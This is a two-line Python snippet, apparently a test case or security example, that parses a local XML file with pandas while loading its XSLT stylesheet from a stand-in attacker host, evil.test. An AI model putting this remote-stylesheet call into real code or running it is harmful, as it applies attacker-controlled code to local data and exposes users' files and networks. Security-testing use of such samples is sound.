import pandas as pd
pd.read_xml("/data/x.xml", stylesheet="http://evil.test/x.xsl")
